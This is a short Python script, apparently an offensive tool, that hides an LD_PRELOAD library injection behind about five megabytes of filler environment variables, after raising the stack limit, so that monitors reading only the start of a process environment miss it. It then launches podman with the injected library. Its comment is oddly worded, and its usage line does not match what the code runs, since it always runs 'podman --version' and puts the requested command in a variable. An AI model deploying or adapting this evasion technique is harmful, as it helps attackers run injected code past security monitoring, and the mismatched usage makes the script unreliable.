#!/usr/bin/env python3
# LD_PRELOAD behind five megabytes of environment, which the kernel takes from who has no limit on its stack: who reads
# only the beginning of an environment does not see it. Usage: preload-behind-much LIBRARY PROGRAM [ARG...]
import os
import resource
import sys

library, command = sys.argv[1], sys.argv[2:]
hard = resource.getrlimit(resource.RLIMIT_STACK)[1]
resource.setrlimit(resource.RLIMIT_STACK, (hard, hard))
environment = {f"FILLER{number}": "x" * 100_000 for number in range(50)}
environment |= {"HOME": os.environ["HOME"], "EVASION_COMMAND": " ".join(command), "LD_PRELOAD": library}
os.execve("/usr/bin/podman", ["podman", "--version"], environment)
